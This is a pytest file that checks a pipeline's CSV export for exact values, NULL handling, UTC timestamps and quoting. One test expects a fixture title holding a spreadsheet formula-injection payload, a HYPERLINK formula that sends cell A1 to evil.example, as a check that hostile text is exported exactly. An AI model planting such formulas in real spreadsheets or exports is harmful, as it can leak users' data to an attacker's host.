"""The CSV of an export: exact to the character, NULL apart from an empty text, times in UTC."""

from __future__ import annotations

import csv
import datetime
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest
from conftest import HUGE, Built

from pipelines.export import csv as csv_export
from pipelines.export.source import EXPORTABLE, Rows
from pipelines.schema import arrow_schema
from pipelines.tables import Table, key, may


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


@pytest.fixture(autouse=True)
def long_fields() -> None:
    csv.field_size_limit(2**31 - 1)


@pytest.mark.parametrize("name", EXPORTABLE)
def test_rows_are_those_of_the_warehouse(exported: Path, hostile: Built, name: str) -> None:
    table = EXPORTABLE[name]
    order = ", ".join(table.primary_key)
    with duckdb.connect(str(hostile.database), read_only=True) as connection:
        connection.execute("SET TimeZone = 'UTC'")
        expected = connection.execute(f"SELECT * FROM {table.qualified_name} ORDER BY {order}").fetchall()

    def words(value: object) -> str:
        if value is None:
            return ""
        if isinstance(value, bool):
            return str(value).lower()
        if isinstance(value, datetime.datetime):
            return value.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        return str(value)

    header, *rows = read(exported / "csv" / f"{name}.csv")
    assert header == [column.name for column in table.columns]
    places = [place for place, column in enumerate(table.columns) if column.type == "double"]
    for row, values in zip(rows, expected, strict=True):
        for place, (text, value) in enumerate(zip(row, values, strict=True)):
            if place in places and value is not None:
                assert float(text) == value
            else:
                assert text == words(value)


def test_dangerous_texts_are_exact(exported_dangerous: Path, dangerous: Path) -> None:
    rows = {row[0]: row for row in read(exported_dangerous / "csv" / "recommendations.csv")}
    place = rows["recommendation_id"].index("title")
    assert rows["900501"][place] == '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows["900501"][place + 1] == HUGE
    assert "\x01\x0b\x1f\x7f\ufffe" in rows["900502"][place]
    assert "lone\rreturn" in rows["900502"][place]


def test_null_is_nothing_and_an_empty_text_is_quoted(tmp_path: Path) -> None:
    table = Table("main", "texts", "One row a text.", (key("number", "integer", "It."), may("text", "text", "It.")))
    texts = {"number": [1, 2, 3], "text": [None, "", 'a "b"\nc']}
    batch = pa.RecordBatch.from_pydict(texts, arrow_schema(table))
    csv_export.write([Rows(table, iter([batch]))], [table], None, tmp_path)  # type: ignore[arg-type]
    assert (tmp_path / "csv" / "texts.csv").read_bytes() == b'"number","text"\n1,\n2,""\n3,"a ""b""\nc"\n'
